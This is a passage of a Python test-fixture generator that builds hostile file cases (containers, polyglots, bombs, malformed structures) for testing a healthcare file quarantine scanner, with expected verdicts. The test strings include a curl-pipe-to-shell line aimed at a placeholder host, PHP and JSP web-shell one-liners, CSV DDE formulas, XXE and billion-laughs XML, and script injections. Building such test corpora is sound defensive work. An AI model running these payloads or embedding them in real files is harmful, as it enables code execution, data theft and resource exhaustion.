"""The adversarial corpus of issue 17, built by script: families of attacks on the quarantine gate, each file
with the verdict it must get. Nothing here is live malware: payloads are the EICAR test string (assembled from
parts) and phigate's synthetic marker, which only the project's test signature database knows.

Families (``docs/threat-model.md``, "Hostile corpus families"): payloads inside containers, sibling-format
confusion, malformed structures that parsers repair, resource traps, polyglots and bombs. Every new family gets
a generator here and runs through ``tests/unit/scanners/test_adversarial_corpus.py``.

A case scanned as tenant ``lenient`` runs under a policy that flags the container-level findings
(``pdf.embedded_file``, ``zip.nested_archive``), so its verdict shows what the gate found *inside* the payload.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Literal

from tests._fixtures import hostile as h

LENIENT = "lenient"
LENIENT_POLICY: dict[str, Literal["reject", "flag"]] = {"pdf.embedded_file": "flag", "zip.nested_archive": "flag"}
MARKER = b"PHIGATE-SYNTHETIC-MALWARE-MARKER"  # detected by the test clamd database only (Phigate.Test.Marker)
MALWARE = {"malware.signature", "yara.match"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
DICOM = "application/dicom"


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    data: bytes
    media_type: str
    expected: str  # clean | infected | unscannable
    codes: frozenset[str] = field(default_factory=frozenset)  # at least one must appear (empty: any)
    tenant: str | None = None
    seconds: float = 5.0  # time bound for the verdict

    @property
    def id(self) -> str:
        return f"{self.family}/{self.name}"


# --- payloads ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    name: str
    data: bytes
    media_type: str
    expected: str
    codes: frozenset[str]


def _pdf_javascript() -> bytes:
    return h.raw_pdf("/OpenAction 4 0 R", ("<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",))


def payloads() -> list[Payload]:
    return [
        Payload("eicar", h.eicar(), h.TEXT, "infected", frozenset(MALWARE)),
        Payload("marker", b"synthetic " + MARKER + b" payload", h.TEXT, "infected",
                frozenset({"malware.signature"})),
        Payload("pdf-javascript", _pdf_javascript(), h.PDF, "infected", frozenset({"pdf.javascript", "yara.match"})),
        Payload("zip-eicar", h.zip_of({"readme.com": h.eicar()}), h.ZIP, "infected", frozenset(MALWARE)),
        Payload("docx-macro", h.docx(macro=True), h.DOCX, "infected", frozenset({"ooxml.macro", "yara.match"})),
        Payload("png-bomb", h.png_pixel_bomb(), h.PNG, "infected", frozenset({"image.bomb"})),
        Payload("clean-text", b"Synthetic follow-up note: blood pressure 120/80.", h.TEXT, "clean", frozenset()),
        Payload("clean-pdf", h.text_pdf(1), h.PDF, "clean", frozenset()),
    ]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


# --- containers of a payload ---------------------------------------------------------------------------------


def fhir_document_reference(payload: bytes, content_type: str) -> bytes:
    return json.dumps({"resourceType": "DocumentReference", "id": "synthetic-1", "status": "current",
                       "content": [{"attachment": {"contentType": content_type, "data": b64(payload),
                                                   "title": "synthetic"}}]}).encode()


def fhir_binary(payload: bytes, content_type: str) -> bytes:
    return json.dumps({"resourceType": "Binary", "id": "b1", "contentType": content_type,
                       "data": b64(payload)}).encode()


def fhir_bundle(payload: bytes, content_type: str) -> bytes:
    return json.dumps({"resourceType": "Bundle", "type": "collection", "entry": [
        {"resource": {"resourceType": "Patient", "id": "p1"}},
        {"resource": json.loads(fhir_binary(payload, content_type))}]}).encode()


def fhir_contained(payload: bytes, content_type: str) -> bytes:
    return json.dumps({"resourceType": "DiagnosticReport", "id": "r1", "status": "final",
                       "code": {"text": "synthetic"},
                       "contained": [{"resourceType": "Media", "id": "m1", "status": "completed",
                                      "content": {"contentType": content_type, "data": b64(payload)}}],
                       "presentedForm": []}).encode()


def fhir_extension(payload: bytes, content_type: str) -> bytes:
    del content_type
    return json.dumps({"resourceType": "Patient", "id": "p1", "extension": [
        {"url": "https://example.org/fhir/StructureDefinition/blob", "valueBase64Binary": b64(payload)}]}).encode()


_MSH = b"MSH|^~\\&|SYNTH|FAC|RECV|FAC|20240101120000||ORU^R01|MSG1|P|2.5\r"
_PID = b"PID|1||000000^^^SYNTH^MR||SYNTHETIC^PATIENT||19700101|U\r"


def _mime_parts(content_type: str) -> tuple[str, str]:
    kind, _, sub = content_type.partition("/")
    return kind.upper() if kind == "text" else "AP", sub.upper() or "OCTET-STREAM"


def hl7_ed_base64(payload: bytes, content_type: str) -> bytes:
    kind, sub = _mime_parts(content_type)
    return (_MSH + _PID + f"OBX|1|ED|PDF^Report||SYNTH^{kind}^{sub}^Base64^{b64(payload)}||||||F\r".encode())


def hl7_ed_hex(payload: bytes, content_type: str) -> bytes:
    kind, sub = _mime_parts(content_type)
    return _MSH + _PID + f"OBX|1|ED|PDF^Report||SYNTH^{kind}^{sub}^Hex^{payload.hex().upper()}||||||F\r".encode()


def hl7_z_segment(payload: bytes, content_type: str) -> bytes:
    kind, sub = _mime_parts(content_type)
    return _MSH + _PID + f"ZDS|1|SYNTH^{kind}^{sub}^Base64^{b64(payload)}\r".encode()


def hl7_repeated_ed(payload: bytes, content_type: str) -> bytes:
    """The payload in the second repetition of the field, behind a harmless first one."""
    kind, sub = _mime_parts(content_type)
    harmless = b64(b"synthetic")
    return _MSH + _PID + (f"OBX|1|ED|PDF^Report||SYNTH^TEXT^PLAIN^Base64^{harmless}~"
                          f"SYNTH^{kind}^{sub}^Base64^{b64(payload)}||||||F\r").encode()


_ALT_CHUNK_REL = ('<Relationship Id="rId20" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                  'relationships/aFChunk" Target="{target}"{mode}/>')


def _docx_with(extra: dict[str, bytes], rels: str = "", ct_extra: str = "") -> bytes:
    base = h.docx()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        entries = {i.filename: archive.read(i) for i in archive.infolist()}
    entries["word/_rels/document.xml.rels"] = entries["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", rels.encode() + b"</Relationships>")
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(b"</Types>", ct_extra.encode()
                                                                            + b"</Types>")
    entries.update(extra)
    return h.zip_of(entries)


def mht(payload: bytes, content_type: str) -> bytes:
    return ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b1\"\r\n\r\n--b1\r\n"
            "Content-Type: text/html\r\n\r\n<html><body>synthetic</body></html>\r\n--b1\r\n"
            f"Content-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n"
            f"Content-Location: file:///part2\r\n\r\n{b64(payload)}\r\n--b1--\r\n").encode()


def docx_alt_chunk_mht(payload: bytes, content_type: str) -> bytes:
    return _docx_with({"word/afchunk.mht": mht(payload, content_type)},
                      _ALT_CHUNK_REL.format(target="afchunk.mht", mode=""),
                      '<Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/>')


def docx_embedding(payload: bytes, content_type: str) -> bytes:
    del content_type
    return _docx_with({"word/embeddings/oleObject1.bin": payload})


def _stream(body: bytes, extra: str = "") -> str:
    return f"<< /Type /EmbeddedFile /Length {len(body)} {extra}>>\nstream\n" + body.decode("latin-1") \
        + "\nendstream"


def pdf_embedded_file(payload: bytes, content_type: str, *, compress: bool = False) -> bytes:
    del content_type
    body = zlib.compress(payload) if compress else payload
    return h.raw_pdf("/Names << /EmbeddedFiles << /Names [(a.bin) 4 0 R] >> >>", (
        "<< /Type /Filespec /F (a.bin) /EF << /F 5 0 R >> >>",
        _stream(body, "/Filter /FlateDecode " if compress else ""),
    ))


def pdf_embedded_flate(payload: bytes, content_type: str) -> bytes:
    return pdf_embedded_file(payload, content_type, compress=True)


def pdf_attachment_annotation(payload: bytes, content_type: str) -> bytes:
    del content_type
    objects = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>",
        "<< /Type /Filespec /F (a.bin) /EF << /F 7 0 R >> >>",
        _stream(payload),
    )
    pdf = h.raw_pdf("", objects)
    # make page 3 the annotated one: point the page tree at object 4 instead
    return _retarget_kids(pdf, "4 0 R")


def _retarget_kids(pdf: bytes, kid: str) -> bytes:
    """The same PDF with the page tree's only kid replaced (object lengths unchanged, so the xref stays right)."""
    old = b"/Kids [3 0 R]"
    new = f"/Kids [{kid}]".encode()
    assert len(old) == len(new)
    return pdf.replace(old, new, 1)


def zip_container(payload: bytes, content_type: str) -> bytes:
    del content_type
    return h.zip_of({"inner/attachment.bin": payload})


CONTAINERS: dict[str, tuple[Callable[[bytes, str], bytes], str, str | None]] = {
    # name -> (builder, declared media type of the container, tenant)
    "fhir-document-reference": (fhir_document_reference, h.FHIR, None),
    "fhir-binary": (fhir_binary, h.FHIR, None),
    "fhir-bundle": (fhir_bundle, h.FHIR, None),
    "fhir-contained": (fhir_contained, h.FHIR, None),
    "fhir-extension": (fhir_extension, h.FHIR, None),
    "json-binary": (fhir_binary, h.JSON, None),
    "hl7-ed-base64": (hl7_ed_base64, h.HL7, None),
    "hl7-ed-hex": (hl7_ed_hex, h.HL7, None),
    "hl7-z-segment": (hl7_z_segment, h.HL7, None),
    "hl7-repeated-ed": (hl7_repeated_ed, h.HL7, None),
    "docx-altchunk-mht": (docx_alt_chunk_mht, h.DOCX, LENIENT),
    "docx-embedding": (docx_embedding, h.DOCX, LENIENT),
    "pdf-embedded-file": (pdf_embedded_file, h.PDF, LENIENT),
    "pdf-embedded-flate": (pdf_embedded_flate, h.PDF, LENIENT),
    "pdf-attachment-annotation": (pdf_attachment_annotation, h.PDF, LENIENT),
    "zip": (zip_container, h.ZIP, LENIENT),
}


# an archive stored uncompressed inside a PDF is read as an archive by ZIP readers (they read from the end)
_STORED_ARCHIVE = {("pdf-embedded-file", "zip-eicar"), ("pdf-embedded-file", "docx-macro"),
                   ("pdf-attachment-annotation", "zip-eicar"), ("pdf-attachment-annotation", "docx-macro")}


def embedded_payloads() -> Iterator[Case]:
    for payload in payloads():
        for container, (build, media_type, tenant) in CONTAINERS.items():
            codes = payload.codes | ({"polyglot"} if (container, payload.name) in _STORED_ARCHIVE else set())
            yield Case("embedded", f"{container}/{payload.name}", build(payload.data, payload.media_type),
                       media_type, payload.expected, codes, tenant)


def undecodable_payloads() -> Iterator[Case]:
    bad = "WDVPIVAlQEFQ-_-_"  # URL-safe alphabet: not FHIR base64Binary
    undecodable = frozenset({"embedded.undecodable"})
    yield Case("embedded", "fhir-urlsafe-base64", json.dumps(
        {"resourceType": "Binary", "contentType": "text/plain", "data": bad}).encode(), h.FHIR, "unscannable",
        undecodable)
    yield Case("embedded", "fhir-truncated-base64", json.dumps(
        {"resourceType": "Binary", "contentType": "text/plain", "data": b64(h.eicar())[:-3]}).encode(), h.FHIR,
        "unscannable", undecodable)
    yield Case("embedded", "hl7-ed-broken-base64", _MSH + _PID + b"OBX|1|ED|X||SYNTH^AP^PDF^Base64^@@@@||||||F\r",
               h.HL7, "unscannable", undecodable)
    yield Case("embedded", "hl7-ed-odd-hex", _MSH + _PID + b"OBX|1|ED|X||SYNTH^AP^PDF^Hex^ABC||||||F\r",
               h.HL7, "unscannable", undecodable)
    yield Case("embedded", "hl7-ed-unknown-encoding", _MSH + _PID + b"OBX|1|ED|X||SYNTH^AP^PDF^Rot13^abc||||||F\r",
               h.HL7, "unscannable", undecodable)
    yield Case("embedded", "hl7-rp-remote", _MSH + _PID
               + b"OBX|1|RP|X||https://203.0.113.9/doc.pdf^SYNTH^AP^PDF||||||F\r", h.HL7, "infected",
               frozenset({"hl7.external_reference"}))
    nested = h.eicar()
    for _ in range(6):
        nested = h.zip_of({"n.zip": nested})
    yield Case("embedded", "zip-nested-six-deep", fhir_binary(nested, "application/zip"), h.FHIR, "infected",
               frozenset({"zip.nested_archive"}))
    yield Case("embedded", "zip-nested-six-deep-lenient", fhir_binary(nested, "application/zip"), h.FHIR,
               "infected", frozenset({"malware.signature"}), tenant=LENIENT)
    clean_nested = b"synthetic"
    for _ in range(6):
        clean_nested = h.zip_of({"n.zip": clean_nested})
    yield Case("embedded", "zip-nested-clean-six-deep", fhir_binary(clean_nested, "application/zip"), h.FHIR,
               "unscannable", frozenset({"embedded.too_deep"}), tenant=LENIENT)
    yield Case("embedded", "fhir-attachment-zip-bomb", fhir_binary(h.single_entry_bomb(128), "application/zip"),
               h.FHIR, "infected", frozenset({"zip.bomb"}))
    yield Case("embedded", "docx-external-image", _docx_with({}, _EXTERNAL_IMAGE), h.DOCX, "infected",
               frozenset({"ooxml.external_relationship"}))
    yield Case("embedded", "docx-external-altchunk", _docx_with(
        {}, _ALT_CHUNK_REL.format(target="https://203.0.113.9/c.html", mode=' TargetMode="External"')), h.DOCX,
        "infected", frozenset({"ooxml.external_relationship"}))
    yield Case("embedded", "docx-altchunk-html-script", _docx_with(
        {"word/afchunk.html": b"<html><body>" + h.eicar() + b"</body></html>"},
        _ALT_CHUNK_REL.format(target="afchunk.html", mode="")), h.DOCX, "infected", frozenset(MALWARE))


_EXTERNAL_IMAGE = ('<Relationship Id="rId30" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships/image" Target="file://203.0.113.9/share/x.png" TargetMode="External"/>')


# --- sibling-format confusion ---------------------------------------------------------------------------------


def _ooxml(main: str, part: str) -> bytes:
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
          'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
          'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          f'<Override PartName="/{part}" ContentType="application/vnd.{main}+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="' + part + '"/>'
            '</Relationships>')
    return h.zip_of({"[Content_Types].xml": ct.encode(), "_rels/.rels": rels.encode(),
                     part: b'<?xml version="1.0"?><root/>'})


_MAINS = {
    "docx": ("openxmlformats-officedocument.wordprocessingml.document.main", "word/document.xml", h.DOCX),
    "xlsx": ("openxmlformats-officedocument.spreadsheetml.sheet.main", "xl/workbook.xml", XLSX),
    "pptx": ("openxmlformats-officedocument.presentationml.presentation.main", "ppt/presentation.xml", PPTX),
    "docm": ("ms-word.document.macroEnabled.main", "word/document.xml", h.DOCX),
    "xlsm": ("ms-excel.sheet.macroEnabled.main", "xl/workbook.xml", XLSX),
}


def sibling_confusion() -> Iterator[Case]:
    for kind, (main, part, _) in _MAINS.items():
        for declared_kind, declared in (("docx", h.DOCX), ("xlsx", XLSX), ("pptx", PPTX)):
            data = _ooxml(main, part)
            if kind == declared_kind:
                yield Case("sibling", f"{kind}-as-{declared_kind}", data, declared, "clean")
            elif kind in ("docm", "xlsm"):  # the macro finding outranks the mismatch
                yield Case("sibling", f"{kind}-as-{declared_kind}", data, declared, "infected",
                           frozenset({"ooxml.macro"}))
            else:
                yield Case("sibling", f"{kind}-as-{declared_kind}", data, declared, "unscannable",
                           frozenset({"type_mismatch"}))
    yield Case("sibling", "ooxml-no-main-part", h.zip_of({"[Content_Types].xml": b"<Types/>", "a.xml": b"<a/>"}),
               h.DOCX, "unscannable", frozenset({"type_mismatch"}))
    markup = {
        "html": b"<!DOCTYPE html><html><body>Synthetic note</body></html>",
        "script-tag": b"Synthetic note.\n<script>document.location='https://203.0.113.9/'</script>\n",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>note</text></svg>',
        "xml": b'<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><n>&x;</n>',
        "iframe": b"Visit summary\n<iframe src=\"https://203.0.113.9/\"></iframe>",
        "rtf": b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
    }
    for name, data in markup.items():
        yield Case("sibling", f"text-{name}", data, h.TEXT, "infected", frozenset({"text.markup"}))
    scripts = {
        "shebang": b"#!/bin/sh\ncurl https://203.0.113.9/x | sh\n",
        "php": b"<?php system($_GET['c']); ?>",
        "powershell": b"powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        "javascript-uri": b"Click javascript:alert(document.cookie) to continue",
        "vbscript": b'Set o = CreateObject("WScript.Shell")\no.Run "calc"\n',
        "jsp": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    }
    for name, data in scripts.items():
        yield Case("sibling", f"text-{name}", data, h.TEXT, "infected", frozenset({"text.script"}))
    formulas = {"csv-dde": b"name,value\nx,=cmd|' /C calc'!A0\n",
                "csv-hyperlink": b"name,value\nx,=HYPERLINK(\"https://203.0.113.9/\",\"click\")\n",
                "csv-at-sum": b"name,value\nx,@SUM(1+1)*cmd|' /C calc'!A0\n"}
    for name, data in formulas.items():
        yield Case("sibling", name, data, "text/csv", "infected", frozenset({"text.formula"}))
    binary = {"nul": b"Synthetic\x00note", "utf16-no-bom": "Synthetic note".encode("utf-16-le"),
              "bell": b"Synthetic\x07note", "ansi-escape": b"\x1b[2J\x1b[31mSynthetic"}
    for name, data in binary.items():
        yield Case("sibling", f"text-binary-{name}", data, h.TEXT, "unscannable",
                   frozenset({"text.encoding", "type_mismatch"}))
    clean_text = {
        "comparisons": b"Potassium < 3.5 and sodium > 145; p<0.05. Dose 5 mg -> 10 mg.",
        "angle-words": b"Plan: see <attached> list; taper <2 weeks.",
        "negative-csv": b"test,value\nbase excess,-2.1\ndelta,+0.4\n",
        "email-address": b"Contact the synthetic clinic at clinic@example.org for follow-up.",
    }
    for name, data in clean_text.items():
        yield Case("sibling", f"text-clean-{name}", data, "text/csv" if "csv" in name else h.TEXT, "clean")


# --- malformed structures that parsers repair -----------------------------------------------------------------


def _break_xref(pdf: bytes) -> bytes:
    start = pdf.index(b"xref\n0 ")
    table = pdf[start:]
    return pdf[:start] + table.replace(b"0000000", b"0000099", 3)


def _no_xref(pdf: bytes) -> bytes:
    return pdf[:pdf.index(b"xref\n0 ")] + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def repaired_structures() -> Iterator[Case]:
    pdf = h.text_pdf(1)
    lead = frozenset({"type.leading_bytes"})
    for name, prefix in (("one-byte", b"\n"), ("hundred-bytes", b"A" * 100), ("html", b"<html><body>x</body>"),
                         ("mz", b"MZ\x90\x00" + b"\0" * 60)):
        yield Case("repaired", f"pdf-prefix-{name}", prefix + pdf, h.PDF, "infected",
                   lead | {"polyglot"})
    yield Case("repaired", "zip-prefix", b"MZ" + b"\0" * 62 + h.zip_of({"a.txt": b"synthetic"}), h.ZIP,
               "infected", lead)
    yield Case("repaired", "docx-prefix", b"junk!" + h.docx(), h.DOCX, "infected", lead)
    yield Case("repaired", "png-prefix", b"x" + h.image("PNG", (16, 16)), h.PNG, "unscannable",
               frozenset({"type_mismatch"}))
    yield Case("repaired", "jpeg-prefix", b"\0\0" + h.image("JPEG", (16, 16)), h.JPEG, "unscannable",
               frozenset({"type_mismatch"}))
    yield Case("repaired", "hl7-prefix", b"GET / HTTP/1.1\r" + h.HL7_MESSAGE, h.HL7, "unscannable",
               frozenset({"hl7.malformed"}))
    yield Case("repaired", "json-prefix", b")]}'\n" + h.FHIR_PATIENT, h.FHIR, "unscannable",
               frozenset({"json.malformed"}))
    yield Case("repaired", "pdf-broken-xref-offsets", _break_xref(h.raw_pdf()), h.PDF, "unscannable",
               frozenset({"pdf.xref_repaired"}))
    yield Case("repaired", "pdf-no-xref", _no_xref(h.raw_pdf()), h.PDF, "unscannable",
               frozenset({"pdf.xref_repaired", "pdf.malformed"}))
    yield Case("repaired", "pdf-startxref-wrong", h.raw_pdf().replace(b"startxref\n", b"startxref\n9", 1), h.PDF,
               "unscannable", frozenset({"pdf.xref_repaired", "pdf.malformed"}))
    js_hidden = _break_xref(_pdf_javascript())
    yield Case("repaired", "pdf-broken-xref-javascript", js_hidden, h.PDF, "infected",
               frozenset({"pdf.javascript", "yara.match"}))
    yield Case("repaired", "pdf-truncated", h.raw_pdf()[:200], h.PDF, "unscannable",
               frozenset({"pdf.malformed", "pdf.xref_repaired"}))
    yield Case("repaired", "zip-local-name-mismatch", _zip_name_mismatch(), h.ZIP, "unscannable",
               frozenset({"zip.malformed"}))
    yield Case("repaired", "dicom-minimal", minimal_dicom(), DICOM, "clean")
    yield Case("repaired", "dicom-shifted", b"\0" + minimal_dicom(), DICOM, "unscannable",
               frozenset({"type_mismatch"}))
    yield Case("repaired", "dicom-mz-preamble", b"MZ" + minimal_dicom()[2:], DICOM, "infected",
               frozenset({"polyglot"}))
    yield Case("repaired", "ooxml-dtd-billion-laughs", h.docx(extra={"word/document.xml": _LAUGHS}), h.DOCX,
               "infected", frozenset({"ooxml.dtd"}))
    yield Case("repaired", "ooxml-dtd-xxe", h.docx(extra={"word/document.xml": _XXE}), h.DOCX, "infected",
               frozenset({"ooxml.dtd"}))


_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
           b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="http://schemas.openxmlformats.'
           b'org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>')
_XXE = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><w:document xmlns:w='
        b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r>'
        b'</w:p></w:body></w:document>')


def _zip_name_mismatch() -> bytes:
    """The local header names one file, the central directory another (two readers, two documents)."""
    data = h.zip_of({"note.txt": b"synthetic"}, zipfile.ZIP_STORED)
    return data.replace(b"note.txt", b"evil.txt", 1)


def minimal_dicom() -> bytes:
    """A minimal valid DICOM Part 10 file (Secondary Capture, no pixel data), synthetic."""
    from pydicom.dataset import Dataset, FileMetaDataset
    from pydicom.uid import UID, ExplicitVRLittleEndian

    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = UID("1.2.840.10008.5.1.4.1.1.7")
    meta.MediaStorageSOPInstanceUID = UID("2.25.1")
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = Dataset()
    dataset.file_meta = meta
    dataset.SOPClassUID = meta.MediaStorageSOPClassUID
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.Modality = "OT"
    out = io.BytesIO()
    dataset.save_as(out, enforce_file_format=True)
    return out.getvalue()


# --- resource traps ---------------------------------------------------------------------------------------------


def tiff_ifd_loop(pages: int = 1) -> bytes:
    """A little-endian TIFF of ``pages`` 1x1 pages whose last IFD points back at the first."""
    entries = 8
    ifd_size = 2 + entries * 12 + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", 8))
    first = 8
    for page in range(pages):
        offset = first + page * (ifd_size + 4)
        pixel = offset + ifd_size
        nxt = first if page == pages - 1 else offset + ifd_size + 4
        tags = [(256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                (273, 4, 1, pixel), (278, 4, 1, 1), (279, 4, 1, 1)]
        out += struct.pack("<H", entries)
        for tag, kind, count, value in tags:
            out += struct.pack("<HHII", tag, kind, count, value)
        out += struct.pack("<I", nxt) + b"\x80\0\0\0"
    return bytes(out)


def multipage_tiff(pages: int) -> bytes:
    from PIL import Image

    frames = [Image.new("L", (8, 8), 0) for _ in range(pages)]
    out = io.BytesIO()
    frames[0].save(out, format="TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def resource_traps() -> Iterator[Case]:
    malformed_or_bomb = frozenset({"image.malformed", "image.bomb"})
    yield Case("trap", "tiff-ifd-self-loop", tiff_ifd_loop(1), h.TIFF, "unscannable", malformed_or_bomb, seconds=3)
    yield Case("trap", "tiff-ifd-cycle-of-three", tiff_ifd_loop(3), h.TIFF, "unscannable", malformed_or_bomb,
               seconds=3)
    yield Case("trap", "tiff-ifd-cycle-of-fifty", tiff_ifd_loop(50), h.TIFF, "unscannable", malformed_or_bomb,
               seconds=3)
    yield Case("trap", "tiff-three-pages", multipage_tiff(3), h.TIFF, "clean")
    yield Case("trap", "tiff-many-pages", multipage_tiff(250), h.TIFF, "infected", frozenset({"image.bomb"}))
    yield Case("trap", "fhir-tiff-loop", fhir_binary(tiff_ifd_loop(2), h.TIFF), h.FHIR, "unscannable",
               malformed_or_bomb)
    field_cap = frozenset({"hl7.field_too_large", "too_large"})
    yield Case("trap", "hl7-oversized-field", _MSH + _PID + b"NTE|1||" + b"A" * (2 << 20) + b"\r", h.HL7,
               "unscannable", field_cap)
    yield Case("trap", "hl7-oversized-line-no-separators", _MSH + b"NTE" + b"B" * (3 << 20) + b"\r", h.HL7,
               "unscannable", field_cap | {"hl7.malformed"})
    yield Case("trap", "hl7-many-components", _MSH + _PID + b"NTE|1||" + b"^" * (2 << 20) + b"\r", h.HL7,
               "unscannable", field_cap)
    yield Case("trap", "hl7-many-segments", _MSH + b"NTE|1\r" * 120_000, h.HL7, "unscannable",
               frozenset({"hl7.too_many_segments"}))
    yield Case("trap", "json-deep", h.nested_json(5000), h.FHIR, "unscannable", frozenset({"json.too_deep"}))
    yield Case("trap", "pdf-page-tree-cycle", _retarget_kids(h.raw_pdf(), "2 0 R"), h.PDF, "unscannable",
               frozenset({"pdf.malformed"}))
    yield Case("trap", "pdf-huge-size", h.raw_pdf().replace(b"/Size 4", b"/Size 999999999"), h.PDF,
               "unscannable", frozenset({"pdf.too_many_objects", "pdf.xref_repaired"}))
    bomb_stream = zlib.compress(b"\0" * (64 << 20), 9)
    yield Case("trap", "pdf-embedded-flate-bomb", h.raw_pdf(
        "/Names << /EmbeddedFiles << /Names [(a.bin) 4 0 R] >> >>",
        ("<< /Type /Filespec /F (a.bin) /EF << /F 5 0 R >> >>",
         _stream(bomb_stream, "/Filter /FlateDecode "))), h.PDF, "unscannable",
        frozenset({"scanner.limit", "embedded.bomb"}), tenant=LENIENT)


# --- polyglots and bombs ------------------------------------------------------------------------------------------


def polyglots_and_bombs() -> Iterator[Case]:
    poly = frozenset({"polyglot"})
    small_zip = h.zip_of({"a.txt": b"synthetic"})
    yield Case("polyglot", "pdf-plus-zip", h.text_pdf(1) + small_zip, h.PDF, "infected", poly)
    yield Case("polyglot", "jpeg-plus-zip", h.image("JPEG", (32, 32)) + small_zip, h.JPEG, "infected", poly)
    yield Case("polyglot", "png-plus-zip", h.image("PNG", (32, 32)) + small_zip, h.PNG, "infected", poly)
    yield Case("polyglot", "tiff-plus-zip", h.image("TIFF", (32, 32)) + small_zip, h.TIFF, "infected", poly)
    jpeg = h.image("JPEG", (32, 32))
    yield Case("polyglot", "jpeg-comment-pdf", jpeg[:2] + b"\xff\xfe\x00\x10%PDF-1.7 obj\n" + jpeg[2:], h.JPEG,
               "infected", poly)
    yield Case("polyglot", "text-plus-zip", b"Synthetic note\n" + small_zip, h.TEXT, "unscannable",
               frozenset({"type_mismatch", "text.encoding"}))
    yield Case("polyglot", "json-plus-zip", h.FHIR_PATIENT + small_zip, h.FHIR, "unscannable",
               frozenset({"type_mismatch", "text.encoding"}))
    yield Case("polyglot", "docx-plus-pdf-head", b"%PDF-1.7\n" + h.docx(), h.DOCX, "infected",
               frozenset({"polyglot", "type.leading_bytes"}))
    yield Case("polyglot", "html-pdf", b"<html><script>alert(1)</script>" + h.text_pdf(1), h.PDF, "infected",
               frozenset({"type.leading_bytes", "polyglot"}))
    yield Case("polyglot", "dicom-zip-preamble", b"PK\x03\x04" + minimal_dicom()[4:], DICOM, "infected", poly)
    yield Case("polyglot", "dicom-html-preamble", b"<html>" + minimal_dicom()[6:], DICOM, "unscannable",
               frozenset({"dicom.preamble"}))
    yield Case("bomb", "zip-single-entry", h.single_entry_bomb(128), h.ZIP, "infected", frozenset({"zip.bomb"}))
    yield Case("bomb", "zip-nested", h.nested_bomb(), h.ZIP, "infected", frozenset({"zip.bomb",
                                                                                    "zip.nested_archive"}))
    yield Case("bomb", "docx-entry-bomb", h.docx(extra={"word/media/zeros.bin": b"\0" * (64 << 20)}), h.DOCX,
               "infected", frozenset({"zip.bomb"}))
    yield Case("bomb", "png-pixels", h.png_pixel_bomb(), h.PNG, "infected", frozenset({"image.bomb"}))
    yield Case("bomb", "tiff-pixels", _tiff_dimensions(100_000, 100_000), h.TIFF, "infected",
               frozenset({"image.bomb"}))
    yield Case("bomb", "hl7-ed-png-bomb", hl7_ed_base64(h.png_pixel_bomb(), h.PNG), h.HL7, "infected",
               frozenset({"image.bomb"}))
    yield Case("bomb", "fhir-many-attachments", json.dumps({"resourceType": "Bundle", "entry": [
        {"resource": {"resourceType": "Binary", "contentType": "text/plain", "data": b64(b"synthetic")}}
        for _ in range(5000)]}).encode(), h.FHIR, "unscannable", frozenset({"embedded.too_many"}))
    yield Case("bomb", "json-deep-in-attachment", fhir_binary(h.nested_json(500), h.JSON), h.FHIR, "unscannable",
               frozenset({"json.too_deep"}))


def _tiff_dimensions(width: int, height: int) -> bytes:
    data = bytearray(tiff_ifd_loop(1))
    struct.pack_into("<I", data, 8 + 2 + 8, width)
    struct.pack_into("<I", data, 8 + 2 + 12 + 8, height)
    struct.pack_into("<I", data, 8 + 2 + 8 * 12, 0)  # no next IFD
    return bytes(data)


# --- parser differentials and obfuscated encodings -------------------------------------------------------------


def _zip_with_duplicates(entries: list[tuple[str, bytes]]) -> bytes:
    import warnings

    out = io.BytesIO()
